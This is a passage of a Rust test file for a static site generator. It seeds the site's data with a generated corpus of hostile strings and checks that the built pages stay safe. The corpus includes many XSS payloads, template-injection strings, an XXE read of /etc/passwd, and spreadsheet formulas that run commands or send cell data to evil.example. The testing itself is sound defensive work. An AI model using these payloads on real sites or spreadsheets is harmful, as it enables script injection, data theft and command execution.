//! A generated corpus of hostile strings (script tags, event handlers, `javascript:`/`data:`/
//! `vbscript:` URLs, CSS and SVG/MathML payloads, template syntax, bidi and control characters,
//! 100,000-character strings, attribute breakouts, spreadsheet formulas) placed in every text
//! field of every data file kind and in Markdown bodies. The build succeeds; no tag, attribute or
//! link scheme in the output comes from the data; the CSV downloads are defused and well formed;
//! and, when Chromium is installed, tests/browser/injection.mjs loads every page and sees no
//! dialog, no console or page error and no injected global.

mod common;

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Instant;

/// What every script payload does: the browser harness looks for either.
const PAYLOADS: [&str; 3] = ["window.__pwned=1", "alert(1)", "top['__pwn'+'ed']=1"];

/// Tera would print this product if it ever ran data as a template.
const TEMPLATE_PRODUCT: &str = "1787569";
/// Tera would print this twice in a row if a loop from the data ran.
const TEMPLATE_LOOP: &str = "PWNTPLPWNTPL";

/// The tags our templates, Markdown and charts write.
const TAGS: &[&str] = &[
    "a",
    "article",
    "author",
    // A ledger record's status and verification badges.
    "b",
    "blockquote",
    "body",
    "br",
    "caption",
    "circle",
    "code",
    "dd",
    "del",
    "desc",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "entry",
    "feed",
    "figcaption",
    "figure",
    "footer",
    // The ledger filter's form (hidden until its script runs).
    "form",
    "fieldset",
    "legend",
    "label",
    "input",
    "button",
    "g",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "head",
    "header",
    "hr",
    "html",
    "id",
    // A chart shown from its SVG file, `charts/<name>.svg`: its `src` is checked like every link.
    "img",
    // A revision's new value, next to the old one in `del`.
    "ins",
    "li",
    "line",
    "link",
    "main",
    "meta",
    "name",
    "nav",
    "ol",
    "p",
    "polygon",
    "polyline",
    "pre",
    "rect",
    "section",
    "span",
    "strong",
    "style",
    "sup",
    "summary",
    "svg",
    "table",
    "tbody",
    "td",
    "text",
    "tfoot",
    "th",
    "thead",
    "title",
    "tr",
    "ul",
    "updated",
    "published",
    "content",
    "subtitle",
    "generator",
    "rights",
    "uri",
    "category",
    "path",
    "tspan",
    // A chart's hatching: stripes defined once as a pattern.
    "defs",
    "pattern",
];

/// The attributes our templates, Markdown and charts write.
const ATTRS: &[&str] = &[
    "alt",
    "aria-current",
    "aria-hidden",
    "aria-label",
    "aria-labelledby",
    "aria-live",
    "charset",
    "class",
    "colspan",
    "content",
    "cx",
    "cy",
    "d",
    "data-for",
    "data-label",
    // The ledger filter's words and formats, and its labels of codes.
    "data-group",
    "data-decimal",
    "data-months",
    "data-date-format",
    "data-rupiah",
    "data-matches",
    "data-matches-one",
    "data-page",
    "data-period",
    "data-illustrative",
    "data-none",
    "data-facet",
    "data-id",
    "data-page-size",
    "data-subtotal",
    "data-document",
    "data-unit",
    "data-source",
    "data-document-label",
    "data-value-label",
    // The site search's words and its labels of kinds.
    "data-root",
    "data-found",
    "data-found-one",
    "data-none",
    "data-empty",
    "data-kind",
    "hidden",
    "method",
    "action",
    "value",
    "for",
    "min",
    "max",
    "download",
    "dx",
    "dy",
    "fill",
    "font-family",
    "font-size",
    "font-style",
    "font-weight",
    "height",
    "href",
    "hreflang",
    "id",
    "lang",
    "name",
    "opacity",
    "patterntransform",
    "patternunits",
    "points",
    "property",
    "r",
    "rel",
    "role",
    "rowspan",
    "rx",
    "scope",
    "src",
    "sizes",
    "stroke",
    "stroke-width",
    "stroke-dasharray",
    "style",
    "tabindex",
    "text-anchor",
    "title",
    "type",
    "viewbox",
    "width",
    "x",
    "x1",
    "x2",
    "y",
    "y1",
    "y2",
    "xml:lang",
    "xmlns",
    "xmlns:xlink",
    "term",
    "label",
    "align",
    "start",
    "version",
    "encoding",
    "fill-opacity",
    "stroke-opacity",
    "transform",
    "open",
];

/// Makes the site a git repository whose commit messages are the corpus, a chunk per commit
/// on one line (only a message's first line is shown): the first commit adds every record,
/// each later one touches an agreement's shipments, so every message is a revision on a
/// history page.
fn commit_hostile_history(root: &Path, corpus: &[String]) {
    let git = sinergi::history::write::Committer::init(root).unwrap();
    let site = root.join("content/site.yaml");
    let text = fs::read_to_string(&site).unwrap();
    let history = "history: {authors: true, commit_url: \"https://example.org/c/{id}\"}\n";
    fs::write(&site, text + history).unwrap();
    let file = root.join("content/agreements/kad-0/shipments/records.yaml");
    // git refuses `<`, `>` and line ends in names; quotes and ampersands it keeps.
    let author = (
        "\" onmouseover=\"alert(1)\" x=' & __pwn",
        "x\"onerror=alert(1)@x",
    );
    for (i, chunk) in corpus.chunks(40).enumerate() {
        if i > 0 {
            let mut text = fs::read_to_string(&file).unwrap();
            text.push_str(&format!("# {i}\n"));
            fs::write(&file, text).unwrap();
        }
        let message = chunk.join(" ").replace(['\n', '\r'], " ");
        git.commit(&message, 1_700_000_000 + i as i64 * 3600, author, &[])
            .unwrap();
    }
}

// ---------------------------------------------------------------- the corpus

/// The corpus: deterministic, every entry distinct, at least 500 of them.
fn corpus() -> Vec<String> {
    let mut c: Vec<String> = Vec::new();
    let p = |i: usize| PAYLOADS[i % PAYLOADS.len()];

    // Script tags in many spellings and cases.
    let open = [
        "<script>",
        "<SCRIPT>",
        "<ScRiPt>",
        "<script >",
        "<script\t>",
        "<script\n>",
        "<script/x>",
        "<script type=\"text/javascript\">",
        "<script type=module>",
        "<<script>",
        "<scr<script>ipt>",
        "</script><script>",
        "<script\u{0}>",
        "＜script＞",
        "\\u003cscript\\u003e",
        "&lt;script&gt;",
        "%3Cscript%3E",
        "<!--<script>",
    ];
    for (i, o) in open.iter().enumerate() {
        for (j, close) in ["</script>", "</SCRIPT >", ""].iter().enumerate() {
            c.push(format!("{o}{}{close}", p(i + j)));
        }
    }
    for (i, wrap) in [
        "\"><script>{}</script>",
        "'><script>{}</script>",
        "</title><script>{}</script>",
        "</textarea><script>{}</script>",
        "</style><script>{}</script>",
        "]]><script>{}</script>",
        "--><script>{}</script>",
        "<script src=\"https://evil.example/x.js\"></script>",
        "<script src=data:,{}></script>",
    ]
    .iter()
    .enumerate()
    {
        c.push(wrap.replace("{}", p(i)));
    }

    // Event handlers on many tags, with several separators.
    let tags = [
        "img src=x",
        "svg",
        "body",
        "iframe src=about:blank",
        "details open",
        "video src=x",
        "audio src=x",
        "input autofocus",
        "select autofocus",
        "textarea autofocus",
        "marquee",
        "object data=x",
        "a href=#",
        "div",
        "image src=x",
        "embed src=x",
    ];
    let handlers = [
        "onerror",
        "onload",
        "onfocus",
        "onmouseover",
        "ontoggle",
        "onstart",
        "onanimationstart",
        "onpointerenter",
    ];
    let seps = [" ", "/", "\t", "\n", "\u{c}", " /"];
    for (i, t) in tags.iter().enumerate() {
        for (j, h) in handlers.iter().enumerate() {
            let sep = seps[(i + j) % seps.len()];
            let n = i * handlers.len() + j;
            let (name, rest) = t.split_once(' ').unwrap_or((t, ""));
            let name = if n % 3 == 1 {
                name.to_uppercase()
            } else {
                name.to_string()
            };
            let value = match n % 3 {
                0 => format!("\"{}\"", p(n)),
                1 => format!("'{}'", p(n)),
                _ => p(n).replace(['\''], "").to_string(),
            };
            c.push(format!("<{name} {rest}{sep}{h}={value}>x"));
        }
    }

    // Quotes and backticks that try to leave an attribute.
    let breaks = [
        "\"", "'", "`", "\">", "'>", "\"/>", "`>", "\"\"", "''", "&quot;", "&#34;", "&#x27;",
    ];
    let tails = [
        " onmouseover={} x=\"",
        " autofocus onfocus={} x='",
        " style=animation-name:x onanimationstart={} ",
        "><img src=x onerror={}>",
    ];
    for (i, b) in breaks.iter().enumerate() {
        for (j, t) in tails.iter().enumerate() {
            c.push(format!("{b}{}", t.replace("{}", p(i + j))));
        }
    }

    // Link schemes with whitespace, entity, encoding and case tricks, as text, as Markdown
    // links, autolinks and images, and as HTML links.
    let schemes = [
        format!("javascript:{}", p(0)),
        format!("JaVaScRiPt:{}", p(1)),
        format!(" \tjavascript:{}", p(0)),
        format!("java\tscript:{}", p(1)),
        format!("java\nscript:{}", p(0)),
        format!("\u{1}javascript:{}", p(1)),
        format!("&#106;avascript:{}", p(0)),
        format!("&#x6A;&#x61;vascript:{}", p(1)),
        format!("javascript&colon;{}", p(0)),
        format!("jav&#x09;ascript:{}", p(1)),
        format!("%6Aavascript:{}", p(0)),
        format!("javascript://%0A{}", p(1)),
        "vbscript:msgbox(1)".to_string(),
        "VBScript:MsgBox(1)".to_string(),
        format!("data:text/html,<script>{}</script>", p(0)),
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==".to_string(),
        format!("DATA:image/svg+xml,<svg onload={}>", p(1)),
        format!(" data:text/html,<img src=x onerror={}>", p(0)),
        "//evil.example/x".to_string(),
        "\\\\evil.example\\x".to_string(),
    ];
    for (i, s) in schemes.iter().enumerate() {
        c.push(s.clone());
        c.push(format!("[klik {i}]({s})"));
        c.push(format!("<{s}>"));
        c.push(format!("![gambar {i}]({s})"));
        c.push(format!("<a href=\"{s}\">tautan {i}</a>"));
        c.push(format!("[ref {i}][r{i}]\n\n[r{i}]: {s}"));
    }

    // CSS: escapes, leaving a <style>, expressions and imports.
    for (i, s) in [
        "</style><script>{}</script>",
        "</STYLE ><img src=x onerror={}>",
        "\"; } body { background: url(javascript:{}) } \"",
        "'; } * { behavior: url(x.htc) } '",
        "\\3c script\\3e {}\\3c /script\\3e",
        "\\\" } </style> \\",
        "expression({})",
        "x{color:expression({})}",
        "@import 'https://evil.example/x.css';",
        "@import url(\"javascript:{}\");",
        "\\\"\\27\\22\\5c",
        "*/ } @page { @top-center { content: \"pwn\" } } /*",
        "<style>@import 'https://evil.example/x.css'</style>",
        "<div style=\"background:url(javascript:{})\">x</div>",
        "<p style=\"x:expr/**/ession({})\">x</p>",
        "\u{0}\"\u{0}</style\u{0}>",
        "-moz-binding:url(https://evil.example/x.xml#x)",
        "</style\n><script>{}</script>",
        "\\00003c/style\\00003e",
        "\"}</style><svg onload={}>",
    ]
    .iter()
    .enumerate()
    {
        c.push(s.replace("{}", p(i)));
    }

    // SVG and MathML.
    for (i, s) in [
        "<svg><script>{}</script></svg>",
        "<svg onload={}>",
        "<svg><animate onbegin={} attributeName=x dur=1s>",
        "<svg><set attributeName=onmouseover to={}>",
        "<svg><a xlink:href=\"javascript:{}\"><text x=20 y=20>x</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='{}'/></svg>#x\"/></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>{}</script>\"></iframe></foreignObject></svg>",
        "<svg><style>@import 'https://evil.example/x.css'</style></svg>",
        "</text></svg><svg onload={}>",
        "</desc><script>{}</script>",
        "</title></svg><svg onload={}>",
        "<![CDATA[<script>{}</script>]]>",
        "<math><mtext><table><mglyph><style><img src=x onerror={}>",
        "<math href=\"javascript:{}\">x</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:{}>x</maction></math>",
        "<math><mi xlink:href=\"data:x,<script>{}</script>\">x</mi></math>",
        "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror={}>\"]]></svg>",
        "<?xml-stylesheet href=\"javascript:{}\"?>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
        "<svg><discard onbegin={}>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><handler type=\"text/javascript\">{}</handler></svg>",
        "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
        "<template><script>{}</script></template>",
        "<iframe srcdoc=\"&lt;script&gt;{}&lt;/script&gt;\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
        "<base href=\"javascript:{}//\">",
        "<form><button formaction=javascript:{}>x</button></form>",
        "<object data=\"javascript:{}\">",
        "<link rel=import href=\"data:text/html,<script>{}</script>\">",
        "<isindex type=image src=1 onerror={}>",
    ]
    .iter()
    .enumerate()
    {
        c.push(s.replace("{}", p(i)));
    }

    // Template syntax of Tera and its relatives.
    for (i, s) in [
        "{{ 1337*1337 }}",
        "{{1337*1337}}",
        "{%raw%}{{ 1337*1337 }}{%endraw%}",
        "{% for i in [1,2] %}PWNTPL{% endfor %}",
        "{%- for i in [1,2] -%}PWNTPL{%- endfor -%}",
        "{# komentar #}",
        "{# {{ 1337*1337 }} #}",
        "{{ __tera_context }}",
        "{{ page | json_encode() | safe }}",
        "{{ '<script>window.__pwned=1</script>' | safe }}",
        "{% include \"base.html\" %}",
        "{% extends \"base.html\" %}",
        "{% set x = 1337*1337 %}{{ x }}",
        "{{ get_env(name=\"HOME\") }}",
        "{% macro m() %}x{% endmacro m %}",
        "{{",
        "}}",
        "{%",
        "%}",
        "{#",
        "${1337*1337}",
        "#{1337*1337}",
        "<%= 1337*1337 %>",
        "{{constructor.constructor('window.__pwned=1')()}}",
        "{{ \"a\" ~ \"b\" }}",
        "{{ t.home }}",
        "{{ site.title }}",
        "{% if true %}PWNTPL{% endif %}PWNTPL",
        "{{ config }}",
        "{% block content %}PWN{% endblock %}",
    ]
    .iter()
    .enumerate()
    {
        c.push(s.to_string());
        c.push(format!("awal {s} akhir {i}"));
    }

    // Unicode bidi overrides, isolates, marks and invisible characters.
    for (i, ch) in [
        '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}', '\u{2066}', '\u{2067}',
        '\u{2068}', '\u{2069}', '\u{200e}', '\u{200f}', '\u{061c}', '\u{200b}', '\u{200c}',
        '\u{200d}', '\u{feff}', '\u{2028}', '\u{2029}', '\u{fffe}', '\u{ffff}',
    ]
    .iter()
    .enumerate()
    {
        c.push(format!("{ch}gnp.exe{ch} nama {i}"));
        c.push(format!("<scr{ch}ipt>{}</script>", p(i)));
    }
    c.push("\u{202e}\u{2066}<script>window.__pwned=1</script>\u{2069}\u{202c}".to_string());

    // NUL and other control characters, alone and inside markup.
    for b in (0u32..0x20).chain([0x7f]).chain(0x80..0xa0) {
        let ch = char::from_u32(b).unwrap();
        c.push(format!("kontrol{ch}{b:02x}"));
        if b < 0x20 || b == 0x7f {
            c.push(format!("<img{ch}src=x{ch}onerror={}>", p(b as usize)));
        }
    }

    // Spreadsheet formulas behind every dangerous first character.
    let formulas = [
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"https://evil.example/?d=\"&A1,\"klik\")",
        "1+1",
        "SUM(1,1)*cmd|' /C notepad'!'A1'",
        "IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")",
        "DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
        "WEBSERVICE(\"https://evil.example\")",
        "2-1",
    ];
    for (i, f) in formulas.iter().enumerate() {
        for pre in ["=", "+", "-", "@", "\t=", "\r=", "\t", "\r"] {
            c.push(format!("{pre}{f}"));
        }
        c.push(format!("\"=cmd\" {i}"));
    }
    for s in [
        "=",
        "+",
        "-",
        "@",
        "-1",
        "+62 812 0000",
        "@SUM(A1)",
        "==",
        "'=1",
    ] {
        c.push(s.to_string());
    }

    // Markdown constructs that carry attributes or raw HTML.
    for (i, s) in [
        "[x](https://example.id \"\\\" onmouseover={} x=\\\"\")",
        "[x](<javascript:{}>)",
        "```\"><script>{}</script>\nkode\n```",
        "```x onclick={}\nkode\n```",
        "# <script>{}</script>",
        "# judul {#\"onclick={}}",
        "[^<script>{}</script>]\n\n[^<script>{}</script>]: catatan",
        "| a | b |\n|---|---|\n| <img src=x onerror={}> | [x](javascript:{}) |",
        "<details open ontoggle={}>",
        "<div\nonclick={}>x</div>",
        "~~<s onmouseover={}>x</s>~~",
        "> <blockquote onmouseover={}>",
        "*<em onmouseover={}>x</em>*",
        "<!-- --><script>{}</script> -->",
        "<?php echo 1; ?><script>{}</script>",
    ]
    .iter()
    .enumerate()
    {
        c.push(s.replace("{}", p(i)));
    }

    let mut seen = BTreeSet::new();
    c.retain(|s| seen.insert(s.clone()));
    c
}

/// Three 100,000-character strings, placed in a few fields only.
fn long_strings() -> [String; 3] {
    let fill = |unit: &str| -> String {
        unit.repeat(100_000 / unit.chars().count() + 1)
            .chars()
            .take(100_000)
            .collect()
    };
    [
        fill("<script>window.__pwned=1</script>"),
        fill("\"'><img src=x onerror=alert(1)>\u{202e}"),
        fill("{{ 1337*1337 }}=cmd|' /C calc'!A0 javascript:alert(1) "),
    ]
}

// ---------------------------------------------------------------- the site

/// A YAML double-quoted scalar (JSON strings are valid YAML).
/// Characters YAML does not allow unescaped (C1 controls but NEL, U+FFFE, U+FFFF) are written
/// as `\uXXXX` escapes.
fn q(s: &str) -> String {
    let json = serde_json::to_string(s).unwrap();
    let mut out = String::with_capacity(json.len());
    for c in json.chars() {
        if ('\u{7f}'..='\u{9f}').contains(&c) && c != '\u{85}' || c == '\u{fffe}' || c == '\u{ffff}'
        {
            write!(out, "\\u{:04x}", c as u32).unwrap();
        } else {
            out.push(c);
        }
    }
    out
}

/// Hands out corpus entries in turn, round and round.
struct Cursor<'a> {
    corpus: &'a [String],
    next: usize,
}

impl Cursor<'_> {
    fn raw(&mut self) -> &str {
        let s = &self.corpus[self.next % self.corpus.len()];
        self.next += 1;
        s
    }
    /// A plain text value.
    fn s(&mut self) -> String {
        q(self.raw())
    }
    /// A text value that readers see: every third one a per-language map.
    fn t(&mut self) -> String {
        if self.next.is_multiple_of(3) {
            let id = self.s();
            let en = self.s();
            format!("{{id: {id}, en: {en}}}")
        } else {
            self.s()
        }
    }
}

const AGREEMENTS: usize = 5;
const SHIPMENTS: usize = 145;
const PAGE_CHUNK: usize = 150;

/// Writes the site; returns the notes of each agreement's shipments, in order.
fn write_site(root: &Path, corpus: &[String]) -> Vec<Vec<String>> {
    let long = long_strings();
    let c = root.join("content");
    fs::create_dir_all(c.join("pages")).unwrap();
    let mut cur = Cursor { corpus, next: 0 };
    fs::write(
        c.join("site.yaml"),
        format!(
            "title: {}\ndescription: {}\nlanguages: [id, en]\npublisher: {}\ncontact: {}\nlicense: {}\nas_of: 2024-12-31\n",
            cur.t(),
            cur.t(),
            cur.t(),
            cur.t(),
            cur.s()
        ),
    )
    .unwrap();

    let mut notes = Vec::new();
    let mut ship_cur = Cursor { corpus, next: 0 };
    for n in 0..AGREEMENTS {
        let a = c.join(format!("agreements/kad-{n}"));
        fs::create_dir_all(a.join("shipments")).unwrap();
        let mut y = String::new();
        let w = &mut y;
        writeln!(w, "title: {}", cur.t()).unwrap();
        writeln!(w, "kind: {}", cur.s()).unwrap();
        writeln!(w, "status: active\nsigned: 2022-01-01").unwrap();
        writeln!(w, "period: {{start: 2022-01-01, end: 2025-12-31}}").unwrap();
        writeln!(w, "summary: {}", cur.t()).unwrap();
        writeln!(w, "parties:").unwrap();
        for p in 1..=2 {
            writeln!(
                w,
                "  - {{id: p{p}, name: {}, role: {}, signatory: {{title: {}, name: {}}}}}",
                cur.t(),
                cur.t(),
                cur.t(),
                cur.s()
            )
            .unwrap();
        }
        writeln!(w, "facilitators: [{{id: bi, name: {}}}]", cur.t()).unwrap();
        writeln!(w, "contacts:").unwrap();
        for _ in 0..2 {
            writeln!(
                w,
                "  - {{name: {}, role: {}, email: {}}}",
                cur.s(),
                cur.t(),
                cur.s()
            )
            .unwrap();
        }
        writeln!(w, "commodities:").unwrap();
        writeln!(w, "  - {{id: telur, name: {}, unit: t}}", cur.t()).unwrap();
        writeln!(
            w,
            "  - {{id: sapi, name: {}, unit: head, conversions: [{{from: head, to: kg, factor: 300}}]}}",
            cur.t()
        )
        .unwrap();
        writeln!(w, "participants:").unwrap();
        for (i, p) in ["p1", "p2"].iter().enumerate() {
            writeln!(
                w,
                "  - {{id: sup{i}, name: {}, kind: {}, party: {p}, commodities: [telur, sapi]}}",
                cur.t(),
                cur.t()
            )
            .unwrap();
        }
        writeln!(w, "offtakers:").unwrap();
        for i in 0..2 {
            writeln!(w, "  - {{id: off{i}, name: {}, party: p2}}", cur.t()).unwrap();
        }
        writeln!(w, "targets:").unwrap();
        writeln!(
            w,
            "  - {{id: t1, title: {}, commodity: telur, quantity: 100, unit: t, due: 2025-06-01}}",
            cur.t()
        )
        .unwrap();
        writeln!(
            w,
            "  - {{id: t2, title: {}, commodity: sapi, participant: sup0, quantity: 50, unit: head}}",
            cur.t()
        )
        .unwrap();
        writeln!(w, "  - {{id: t3, title: {}}}", cur.t()).unwrap();
        writeln!(w, "milestones:").unwrap();
        for (i, st) in ["done", "planned", "missed"].iter().enumerate() {
            writeln!(
                w,
                "  - {{date: 2022-0{}-10, title: {}, status: {st}, target: t3, sources: [s1]}}",
                i + 2,
                cur.t()
            )
            .unwrap();
        }
        writeln!(w, "documents:").unwrap();
        writeln!(
            w,
            "  - {{id: nk, type: NK, title: {}, number: {}, signed: 2022-01-01, parties: [p1, p2, bi], url: \"https://example.id/a'b?c=1&d={{x}}\"}}",
            cur.t(),
            cur.s()
        )
        .unwrap();
        writeln!(
            w,
            "  - {{id: pks, type: PKS, title: {}, number: {}, parent: nk, parties: [sup0, off0]}}",
            cur.t(),
            cur.s()
        )
        .unwrap();
        writeln!(
            w,
            "  - {{id: po, type: other, title: {}, parent: pks, url: \"https://example.id/'onmouseover='alert(1)'/`{{{{1337*1337}}}}`\"}}",
            cur.t()
        )
        .unwrap();
        writeln!(w, "sources:").unwrap();
        for (i, url) in [
            "https://example.id/berita?x=1&y=2",
            "http://example.id/'onmouseover='alert(1)'/`x`?a=1&b=2",
            "https://example.id/#javascript:alert(1)",
        ]
        .iter()
        .enumerate()
        {
            writeln!(
                w,
                "  - {{id: s{}, title: {}, publisher: {}, url: {}, date: 2022-01-0{}}}",
                i + 1,
                cur.t(),
                cur.s(),
                q(url),
                i + 1
            )
            .unwrap();
        }
        writeln!(w, "issues:").unwrap();
        for i in 0..3 {
            let title = if n == 1 && i == 0 {
                q(&long[1])
            } else {
                cur.t()
            };
            writeln!(
                w,
                "  - {{id: i{i}, raised: 2022-0{}-01, title: {title}, status: {}, sources: [s1]}}",
                i + 3,
                if i == 0 { "open" } else { "resolved" }
            )
            .unwrap();
        }
        writeln!(w, "report:\n  place: {}\n  signers:", cur.t()).unwrap();
        for _ in 0..2 {
            writeln!(
                w,
                "    - {{title: {}, name: {}, nip: {}}}",
                cur.t(),
                cur.s(),
                cur.s()
            )
            .unwrap();
        }
        fs::write(a.join("agreement.yaml"), y).unwrap();

        // Shipments: a note on every record, from a cursor of their own, so every entry of
        // the corpus reaches the CSV.
        let mut s = String::new();
        let mut these = Vec::new();
        let start = chrono::NaiveDate::from_ymd_opt(2022, 1, 1).unwrap();
        for i in 0..SHIPMENTS {
            let note = if n == 0 && i == 7 {
                long[2].clone()
            } else {
                ship_cur.raw().to_string()
            };
            let date = start + chrono::Duration::days(i as i64 * 7);
            let (commodity, qty, unit) = if i % 4 == 3 {
                ("sapi", "12", "ekor")
            } else {
                ("telur", "1.5", "t")
            };
            let when = if i % 10 == 9 {
                format!(
                    "period: {{start: {date}, end: {}}}",
                    date + chrono::Duration::days(6)
                )
            } else {
                format!("date: {date}")
            };
            writeln!(
                s,
                "- {{id: r{i}, {when}, from: sup{}, to: off{}, commodity: {commodity}, quantity: {qty}, unit: {unit}, status: {}, verification: {}, sources: [s{}], document: pks, value_idr: 1000000, note: {}}}",
                i % 2,
                (i / 2) % 2,
                ["shipped", "received", "verified", "planned"][i % 4],
                ["reported", "official", "documented", "audited"][i % 4],
                i % 3 + 1,
                q(&note)
            )
            .unwrap();
            these.push(note);
        }
        fs::write(a.join("shipments/records.yaml"), s).unwrap();
        notes.push(these);

        // Agreement pages: front matter and a Markdown body.
        for (name, lang) in [("latar-belakang", ""), ("catatan", ""), ("catatan", ".en")] {
            let body: Vec<String> = (0..12).map(|_| cur.raw().to_string()).collect();
            fs::write(
                a.join(format!("{name}{lang}.md")),
                format!(
                    "---\ntitle: {}\ndescription: {}\n---\n{}\n",
                    cur.s(),
                    cur.s(),
                    body.join("\n\n")
                ),
            )
            .unwrap();
        }
    }

    // Free pages: the whole corpus in Markdown, a chunk per page, each entry as a paragraph,
    // a list item, a heading and link text.
    for (k, chunk) in corpus.chunks(PAGE_CHUNK).enumerate() {
        let mut body = String::new();
        for (i, e) in chunk.iter().enumerate() {
            match i % 4 {
                0 => writeln!(body, "{e}\n").unwrap(),
                1 => writeln!(body, "- {e}\n").unwrap(),
                2 => writeln!(body, "## {e}\n").unwrap(),
                _ => writeln!(body, "[{e}](https://example.id/{i})\n").unwrap(),
            }
        }
        if k == 0 {
            writeln!(body, "{}\n", long[0]).unwrap();
        }
        for lang in ["", ".en"] {
            fs::write(
                c.join(format!("pages/halaman-{k}{lang}.md")),
                format!(
                    "---\ntitle: {}\ndescription: {}\norder: {k}\n---\n{body}",
                    cur.s(),
                    cur.s()
                ),
            )
            .unwrap();
        }
    }
    notes
}

// ---------------------------------------------------------------- static checks

#[derive(Default)]
struct Findings(Vec<String>);

impl Findings {
    fn add(&mut self, file: &str, msg: String) {
        if self.0.len() < 60 {
            self.0.push(format!("{file}: {msg}"));
        }
    }
}

/// Decodes the character references a browser would decode in an attribute value.
fn decode_entities(s: &str) -> String {
    let mut out = String::new();
    let mut rest = s;
    while let Some(i) = rest.find('&') {
        out.push_str(&rest[..i]);
        let after = &rest[i + 1..];
        let end = after.find(';').filter(|&e| e <= 10);
        let decoded = end.and_then(|e| {
            let ent = &after[..e];
            let ch = if let Some(h) = ent.strip_prefix("#x").or_else(|| ent.strip_prefix("#X")) {
                u32::from_str_radix(h, 16).ok().and_then(char::from_u32)
            } else if let Some(d) = ent.strip_prefix('#') {
                d.parse().ok().and_then(char::from_u32)
            } else {
                match ent {
                    "amp" => Some('&'),
                    "lt" => Some('<'),
                    "gt" => Some('>'),
                    "quot" => Some('"'),
                    "apos" => Some('\''),
                    "colon" => Some(':'),
                    "Tab" => Some('\t'),
                    "NewLine" => Some('\n'),
                    _ => None,
                }
            };
            ch.map(|c| (c, e))
        });
        match decoded {
            Some((c, e)) => {
                out.push(c);
                rest = &after[e + 1..];
            }
            None => {
                out.push('&');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

/// A link value is http(s), relative or in-page: no other scheme.
fn link_is_safe(value: &str) -> bool {
    let v: String = decode_entities(value)
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase();
    if v.starts_with("http://") || v.starts_with("https://") {
        return true;
    }
    if v.starts_with("//") || v.starts_with('\\') {
        return false;
    }
    !v.split(['/', '?', '#']).next().unwrap_or("").contains(':')
}

/// Every `<` starts an allowed tag with allowed attributes and safe links; returns the number
/// of tags.
fn check_markup(file: &str, text: &str, f: &mut Findings) -> usize {
    let b = text.as_bytes();
    let mut i = 0;
    let mut tags = 0;
    while let Some(off) = text[i..].find('<') {
        let start = i + off;
        let rest = &text[start..];
        // Comments, the doctype and the XML declaration are the only non-tags.
        if rest.starts_with("<!DOCTYPE html>") || rest.starts_with("<?xml ") {
            i = start + rest.find('>').map_or(rest.len(), |e| e + 1);
            continue;
        }
        if rest.starts_with("<!--") {
            f.add(file, format!("comment at byte {start}"));
            i = start + 4;
            continue;
        }
        let mut j = start + 1;
        if j < b.len() && b[j] == b'/' {
            j += 1;
        }
        let name_start = j;
        while j < b.len() && (b[j].is_ascii_alphanumeric() || b[j] == b'-' || b[j] == b':') {
            j += 1;
        }
        let name = text[name_start..j].to_ascii_lowercase();
        if !TAGS.contains(&name.as_str()) {
            let ctx: String = text[start..].chars().take(60).collect();
            f.add(file, format!("`<` does not start an allowed tag: {ctx:?}"));
            i = start + 1;
            continue;
        }
        tags += 1;
        // Attributes up to `>`.
        loop {
            while j < b.len() && (b[j] == b' ' || b[j] == b'\n' || b[j] == b'\t' || b[j] == b'/') {
                j += 1;
            }
            if j >= b.len() {
                f.add(file, format!("unterminated <{name}"));
                return tags;
            }
            if b[j] == b'>' {
                j += 1;
                break;
            }
            let a0 = j;
            while j < b.len() && !matches!(b[j], b'=' | b'>' | b' ' | b'\n' | b'\t' | b'/') {
                j += 1;
            }
            let attr = text[a0..j].to_ascii_lowercase();
            if !ATTRS.contains(&attr.as_str()) {
                let ctx: String = text[start..].chars().take(80).collect();
                f.add(file, format!("attribute `{attr}` not allowed in {ctx:?}"));
            }
            let mut value = "";
            if j < b.len() && b[j] == b'=' {
                j += 1;
                if j < b.len() && (b[j] == b'"' || b[j] == b'\'') {
                    let qc = b[j] as char;
                    let v0 = j + 1;
                    let end = text[v0..].find(qc).map_or(b.len(), |e| v0 + e);
                    value = &text[v0..end];
                    j = (end + 1).min(b.len());
                } else {
                    let v0 = j;
                    while j < b.len() && !matches!(b[j], b'>' | b' ' | b'\n' | b'\t') {
                        j += 1;
                    }
                    value = &text[v0..j];
                    // The ledger's rows leave quotes off values made only of letters, digits
                    // and `-_.:/#` (ids, classes, links to ids): nothing in such a value can
                    // end it early or start another attribute. Any other unquoted value is data
                    // that escaped its quotes.
                    let bare = |c: char| c.is_ascii_alphanumeric() || "-_.:/#".contains(c);
                    if value.is_empty() || !value.chars().all(bare) {
                        f.add(
                            file,
                            format!("unquoted value of `{attr}` in <{name}>: {value:?}"),
                        );
                    }
                }
            }
            if value.contains('<') {
                f.add(
                    file,
                    format!("`<` inside the value of `{attr}` in <{name}>"),
                );
            }
            if matches!(attr.as_str(), "href" | "src" | "xlink:href" | "action")
                && !link_is_safe(value)
            {
                f.add(file, format!("unsafe link in <{name} {attr}>: {value:?}"));
            }
            if attr == "style" {
                let v = decode_entities(value).to_ascii_lowercase();
                if v.contains("url(")
                    || v.contains("expression")
                    || v.contains('\\')
                    || v.contains("@import")
                {
                    f.add(
                        file,
                        format!("style value from the data in <{name}>: {value:?}"),
                    );
                }
            }
            if attr == "rel"
                && !matches!(
                    value,
                    "stylesheet" | "alternate" | "footnote" | "nofollow" | "icon" | "canonical"
                )
            {
